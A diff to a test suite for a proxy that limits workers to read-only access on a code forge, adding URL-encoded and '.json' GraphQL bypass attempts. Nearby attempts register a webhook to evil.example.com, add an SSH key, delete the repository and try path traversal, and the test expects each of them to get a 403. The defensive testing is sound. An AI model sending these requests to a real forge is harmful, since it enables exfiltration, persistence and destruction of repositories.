@@ -126,6 +126,8 @@ try hook -X POST $api/hooks -d '{"config":{"url":"https://evil.example.com"}}'
 try key -X POST $api/keys -d '{"key":"ssh-ed25519 AAAA"}'
 try delete -X DELETE $api
 try graphql -X POST $GITHUB_URL/api/graphql -d '{"query":"mutation{}"}'
+try encoded-graphql "$GITHUB_URL/api/%67raphql?query=mutation%7Bx%7D"
+try graphql-json "$GITHUB_URL/api/graphql.json?query=mutation%7Bx%7D"
 try other-read $GITHUB_URL/api/v1/repos/team/private
 try user $GITHUB_URL/api/v1/user
 try dots $api/../private
@@ -149,7 +151,7 @@ def test_a_worker_pushes_merges_and_comments_straight_at_the_forge(binary, stack
     assert results.pop("override") == "200", lines  # passed on as what it is: a GET
     assert results.pop("push") == results.pop("push main") == results.pop("other-fetch") == "failed", lines
     for attempt in ("advertise", "contents", "file", "upload-pack-name", "pull", "merge", "put-merge", "edit", "review", "comment",
-                    "issue", "hook", "key", "delete", "graphql", "other-read", "user", "dots", "encoded", "own-token"):
+                    "issue", "hook", "key", "delete", "graphql", "encoded-graphql", "graphql-json", "other-read", "user", "dots", "encoded", "own-token"):
         assert results[attempt] == "403", (attempt, results)
     assert any("workers only read there" in line for line in lines), lines
     # What the victim lost: nothing. No write came to the forge at all.
